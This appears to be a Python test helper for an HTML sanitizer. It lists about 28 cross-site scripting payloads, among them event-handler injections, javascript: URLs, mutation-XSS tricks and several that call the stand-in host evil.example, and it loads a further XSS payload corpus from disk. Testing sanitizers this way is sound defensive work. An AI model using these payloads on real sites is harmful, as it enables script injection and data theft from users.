"""Hostile bodies: those of the behaviour cases, and the corpus' where it is beside the checkout."""

import json
from collections.abc import Iterator
from pathlib import Path

CORPUS = Path(__file__).parents[2] / "../shared/corpus/xss"

# XS-01…18, XS-24, in order.
CASES = (
    "<!--><img src=x onerror=alert(1)>-->",
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#x01;javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><svg onload=alert(1)>",
    "<form action=//evil.example><input name=p autofocus onfocus=alert(1)><button>go</button></form>",
    "<video poster=javascript:alert(1)><source onerror=alert(1)></video><iframe src=javascript:alert(1)></iframe>",
    "<img name=getElementById><form id=cookie class=modal name=body><input name=attributes></form>",
    '<a ping="//evil.example" target="_blank" href="https://news.example/">x</a>',
    '<a href="file:///etc/passwd">x</a><a href="feed:javascript:alert(1)">y</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//e>",
    "<style>@import '//evil.example/x.css'</style><object data=//evil.example></object><embed src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><script src=//evil.example></script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea><title></title><svg onload=alert(1)>",
    "<p style='width:100%;height:100%;background:url(//evil.example)'>x</p>",
    "<<img src=x onerror=alert(1)//<",
    "<img src=`x` onerror=alert(1)><img \x00src=x \x00onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "[x](javascript:alert(1)) ![](x 'a\" onerror=alert(1)') <!-- `<script>alert(1)</script>` [a]: javascript:alert(1)",
    '<a href="https://x.example/](javascript:alert(1))" title="](javascript:alert(1))">x](javascript:alert(1))</a>',
    '<img srcset="javascript:alert(1) 2x, //evil.example\'&quot;onerror=alert(1) 3x" data-src="javascript:alert(1)">',
    '<math><semantics><annotation encoding="application/x-tex">\\href{javascript:alert(1)}{x}</annotation>',
    '<pre class="brush: js"><code class="language-`&quot;><script>alert(1)</script>">```\n<script>alert(1)</script>',
)


def corpus() -> Iterator[str]:
    """Yield every payload of the corpus; none where it is absent."""
    for path in sorted(CORPUS.glob("patt-*.txt")):
        yield from path.read_text(encoding="utf-8", errors="replace").splitlines()
    for path in sorted((CORPUS / "patt-files").glob("*")):
        yield path.read_text(encoding="utf-8", errors="replace")
    for name, key in (("dompurify-expect.jsonl", "payload"), ("miniflux-sanitizer.jsonl", "input")):
        if (CORPUS / name).exists():
            for line in (CORPUS / name).read_text(encoding="utf-8").split("\n")[:-1]:
                yield json.loads(line)[key]
